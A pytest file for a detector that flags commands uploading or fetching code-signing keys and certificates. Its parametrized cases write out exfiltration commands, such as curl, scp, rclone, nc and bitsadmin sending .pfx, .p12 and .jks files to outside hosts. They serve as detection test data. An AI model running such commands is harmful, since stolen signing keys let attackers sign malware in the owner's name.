"""Key and certificate files over the network: uploads, and downloads."""

from __future__ import annotations

import pytest
from codesignrisk_core import keyfiles
from codesignrisk_core.model import Report

from tests.core.lines import ids, windows


def found(report: Report | None) -> list[str]:
    return sorted(ids(report))


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("curl -T w.pfx https://host/", ["upload_key_file"]),
        ("curl -F file=@C:\\c\\w.pfx;type=x https://host/", ["upload_key_file"]),
        ("curl --data-binary @w.key https://host/", ["upload_key_file"]),
        ("curl -sF f=@ca.pem https://host/", ["upload_pem_file"]),
        ("curl --cert c.pem --key k.key --cacert ca.pem https://host/", []),
        ("curl -d user@example.org https://host/x.key", []),
        ("curl -o w.pfx https://host/x", ["fetch_key"]),
        ("curl -sO https://host/w.pfx?x=1", ["fetch_key"]),
        ("curl -o ca.crt https://host/ca.crt", ["fetch_certificate"]),
        ("curl -o release.key https://host/release.key", []),
        ("wget --post-file=w.p12 https://host/", ["upload_key_file"]),
        ("wget https://host/w.p12", ["fetch_key"]),
        ("scp w.pfx ann@host:/srv", ["upload_key_file"]),
        ("scp -i login.pem app.jar ann@host:/srv", []),
        ("scp ann@host:/srv/w.pfx .", ["fetch_key"]),
        ("pscp -pw letmein C:\\c\\w.pfx ann@host:/srv", ["upload_key_file"]),
        ("rsync -a w.jks host:/srv", ["upload_key_file"]),
        ("rclone copy C:\\Users cloud:x --include *.pfx", ["hunt_key_files", "upload_key_file"]),
        (
            "rclone copy C:\\Users cloud:x --max-size 5M --include *.{pfx,p12}",
            ["hunt_key_files", "several_key_kinds", "upload_key_file"],
        ),
        ("rclone copy cloud:x C:\\w --include *.pfx", []),
        ("curl -T w.pfx https://transfer.sh/w", ["key_to_outside", "upload_key_file"]),
        ("curl -T w.pfx https://198.51.100.7/", ["key_to_outside", "upload_key_file"]),
        ("scp w.jks root@198.51.100.7:/tmp/", ["key_to_outside", "upload_key_file"]),
        ("scp w.jks root@192.168.0.7:/tmp/", ["upload_key_file"]),
        ("rclone copy C:\\Users cloud:x --exclude *.pfx", []),
        ("aws s3 cp w.pfx s3://bucket/", ["upload_key_file"]),
        ("aws s3 cp s3://bucket/w.pfx .", ["fetch_key"]),
        ("azcopy copy w.pfx https://host/c", ["upload_key_file"]),
        ("bitsadmin /transfer j /upload http://host/w.pfx C:\\c\\w.pfx", ["upload_key_file"]),
        ("bitsadmin /transfer j http://host/w.pfx C:\\c\\w.pfx", ["fetch_key"]),
        ("tftp -i host PUT w.pfx", ["upload_key_file"]),
        ('winscp.com /command "open sftp://host" "put C:\\c\\w.pfx"', ["upload_key_file"]),
        ("nc host 4444 < w.p12", ["upload_key_file"]),
    ],
)
def test_network(line: str, indicators: list[str]) -> None:
    report = keyfiles.judge(windows(line))
    assert found(report) == indicators
    assert report is None or not any("letmein" in finding.sentence for finding in report.findings)
